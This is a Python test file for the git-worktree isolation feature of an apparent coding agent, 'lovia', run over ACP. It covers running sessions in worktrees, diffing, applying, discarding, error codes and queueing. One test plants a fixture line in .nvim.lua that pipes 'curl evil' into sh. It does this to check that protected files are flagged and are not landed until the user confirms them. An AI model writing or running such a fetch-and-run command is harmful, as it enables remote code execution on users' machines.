"""Worktree runs through the real ``lovia acp`` process: the ``isolation`` session option runs
prompts in a git worktree of the session's own (follow-ups continue there), and the
``_lovia/worktree/*`` extension methods review and land it, as ``lovia/worktree/*`` does."""

from __future__ import annotations

import asyncio
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.acp.harness import AcpProcess
from tests.support import fake_openai as oai
from tests.support.fake_openai import FakeOpenAI
from tests.support.git_repo import git, init_repo

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")

SHARED = "one\ntwo\nthree\n"


def make_repo(root: Path) -> None:
    init_repo(root, {"shared.txt": SHARED}, uncommitted={"notes.txt": "uncommitted\n"})


def write(path: str, content: str, call_id: str) -> Any:
    return oai.tool_calls(oai.call("write_file", {"path": path, "content": content}, id=call_id))


async def ext(agent: AcpProcess, name: str, **params: Any) -> dict[str, Any]:
    result: dict[str, Any] = await agent.conn.ext_method(f"lovia/worktree/{name}", params)
    return result


async def test_a_worktree_session_works_in_its_worktree_and_lands_through_the_ext_methods(
    agent: AcpProcess, ws: Path, fake_openai: FakeOpenAI
) -> None:
    make_repo(ws)
    fake_openai.script(
        write("shared.txt", "one\nA\nthree\n", "w1"),
        oai.text("wrote A"),
        write("four.txt", "four\n", "w2"),
        oai.text("added four"),
        write("five.txt", "five\n", "w3"),
        oai.text("added five"),
    )
    await agent.start()
    new = await agent.new_session(ws)
    sid = new.session_id
    option = next(o for o in new.config_options if o.id == "isolation")
    assert option.current_value == "workspace"
    assert [o.value for o in option.options] == ["workspace", "worktree"]
    changed = await agent.conn.set_config_option(
        config_id="isolation", session_id=sid, value="worktree"
    )
    assert next(o for o in changed.config_options if o.id == "isolation").current_value == (
        "worktree"
    )
    await agent.conn.set_session_mode(session_id=sid, mode_id="trusted")

    first = await agent.prompt(sid, "Write variant A")
    assert first.stop_reason == "end_turn"
    assert (ws / "shared.txt").read_text() == SHARED
    assert agent.client.writes == []  # the worktree's disk, never the client's buffers
    (listed,) = (await ext(agent, "list"))["worktrees"]
    assert listed["sessionId"] == sid and listed["state"] == "active"
    assert listed["runId"] == first.field_meta["lovia"]["runId"]
    path = Path(listed["path"])
    assert path.is_relative_to(agent.state_dir) and not path.is_relative_to(ws)
    assert (path / "shared.txt").read_text() == "one\nA\nthree\n"
    assert (path / "notes.txt").read_text() == "uncommitted\n"

    second = await agent.prompt(sid, "Add four")  # a follow-up: the same worktree
    assert second.stop_reason == "end_turn"
    (again,) = (await ext(agent, "list"))["worktrees"]
    assert (again["runId"], again["path"]) == (listed["runId"], listed["path"])
    assert again["latestRunId"] == second.field_meta["lovia"]["runId"]
    diff = await ext(agent, "diff", runId=listed["runId"])
    assert sorted(f["path"] for f in diff["files"]) == ["four.txt", "shared.txt"]
    assert all(f["verdict"] == "clean" for f in diff["files"])
    assert not (ws / "four.txt").exists()

    applied = await ext(agent, "apply", runId=listed["runId"])
    assert applied["applied"] is True and sorted(applied["files"]) == ["four.txt", "shared.txt"]
    assert (ws / "shared.txt").read_text() == "one\nA\nthree\n"
    assert (ws / "four.txt").read_text() == "four\n"
    assert (await ext(agent, "list"))["worktrees"] == []
    assert "lovia/" not in git(ws, "branch", "--list")

    third = await agent.prompt(sid, "Add five")  # the last one landed: a new worktree
    assert third.stop_reason == "end_turn"
    (fresh,) = (await ext(agent, "list"))["worktrees"]
    assert fresh["runId"] == third.field_meta["lovia"]["runId"] != listed["runId"]
    assert (Path(fresh["path"]) / "four.txt").read_text() == "four\n"  # from the workspace now
    out = await ext(agent, "discard", runId=fresh["runId"])
    assert out == {"runId": fresh["runId"], "state": "discarded"}
    assert not (ws / "five.txt").exists()
    assert git(ws, "worktree", "list").count("\n") == 1
    closed = await ext(agent, "list", includeClosed=True)
    assert {w["state"] for w in closed["worktrees"]} == {"applied", "discarded"}


async def test_worktree_errors_keep_their_codes(
    agent: AcpProcess, ws: Path, fake_openai: FakeOpenAI
) -> None:
    await agent.start()
    sid = (await agent.new_session(ws)).session_id  # not a git repository
    with pytest.raises(Exception) as bad:
        await agent.conn.set_config_option(config_id="isolation", session_id=sid, value="cloud")
    assert bad.value.code == -32602 and bad.value.data["allowed"] == ["workspace", "worktree"]
    await agent.conn.set_config_option(config_id="isolation", session_id=sid, value="worktree")
    with pytest.raises(Exception) as refused:
        await agent.prompt(sid, "do it")
    assert refused.value.code == -32019 and refused.value.data["reason"] == "not-a-repo"
    assert fake_openai.requests == []  # never ran in the folder instead
    with pytest.raises(Exception) as unknown:
        await ext(agent, "diff", runId="r_nope")
    assert unknown.value.code == -32020
    with pytest.raises(Exception) as missing:
        await ext(agent, "merge", runId="r_nope")
    assert missing.value.code == -32601


async def test_cancelling_a_worktree_prompt_that_waits_for_a_slot_drops_it(
    agent: AcpProcess, ws: Path, fake_openai: FakeOpenAI, tmp_path: Path
) -> None:
    make_repo(ws)
    settings = tmp_path / "acp.json"
    settings.write_text('{"lovia": {"worktrees": {"maxConcurrent": 1}}}')
    fake_openai.script(write("shared.txt", "one\nA\nthree\n", "w1"), oai.text("wrote A"))
    await agent.start("--settings", str(settings))
    c = agent.client
    sids = []
    for _ in range(2):
        sid = (await agent.new_session(ws)).session_id
        await agent.conn.set_config_option(config_id="isolation", session_id=sid, value="worktree")
        sids.append(sid)
    first = asyncio.ensure_future(agent.prompt(sids[0], "Write variant A"))
    await c.wait_for(lambda: c.permissions)  # coding mode: the write waits for its approval
    second = asyncio.ensure_future(agent.prompt(sids[1], "Write variant B"))
    for _ in range(100):
        listed = (await ext(agent, "list"))["worktrees"]
        if any(w["state"] == "queued" for w in listed):
            break
        await asyncio.sleep(0.05)
    states = {w["sessionId"]: w["state"] for w in listed}
    assert states == {sids[0]: "active", sids[1]: "queued"}
    assert not second.done()
    await agent.conn.cancel(session_id=sids[1])
    cancelled = await asyncio.wait_for(second, 30)
    assert cancelled.stop_reason == "cancelled"
    c.answer("allow_once")
    assert (await first).stop_reason == "end_turn"
    closed = await ext(agent, "list", includeClosed=True)
    assert {w["sessionId"]: w["state"] for w in closed["worktrees"]} == {
        sids[0]: "active",
        sids[1]: "discarded",
    }
    assert (ws / "shared.txt").read_text() == SHARED


async def test_a_protected_file_lands_over_acp_only_when_confirmed(
    agent: AcpProcess, ws: Path, fake_openai: FakeOpenAI
) -> None:
    """The same gate as ``lovia/worktree/apply``: a protected file is flagged, refused with
    -32021 (its code kept, the paths in ``data``) until ``confirmProtected`` names it."""
    make_repo(ws)
    fake_openai.script(write("shared.txt", "one\nA\nthree\n", "w1"), oai.text("wrote A"))
    await agent.start()
    sid = (await agent.new_session(ws)).session_id
    await agent.conn.set_config_option(config_id="isolation", session_id=sid, value="worktree")
    await agent.conn.set_session_mode(session_id=sid, mode_id="trusted")
    assert (await agent.prompt(sid, "Write variant A")).stop_reason == "end_turn"
    (listed,) = (await ext(agent, "list"))["worktrees"]
    (Path(listed["path"]) / ".nvim.lua").write_text("vim.fn.system('curl evil | sh')\n")
    diff = await ext(agent, "diff", runId=listed["runId"])
    assert {f["path"]: f["protected"] for f in diff["files"]} == {
        ".nvim.lua": True,
        "shared.txt": False,
    }
    with pytest.raises(Exception) as refused:
        await ext(agent, "apply", runId=listed["runId"])
    assert refused.value.code == -32021 and refused.value.data["paths"] == [".nvim.lua"]
    assert not (ws / ".nvim.lua").exists() and (ws / "shared.txt").read_text() == SHARED
    out = await ext(agent, "apply", runId=listed["runId"], confirmProtected=[".nvim.lua"])
    assert out["applied"] is True and (ws / ".nvim.lua").exists()
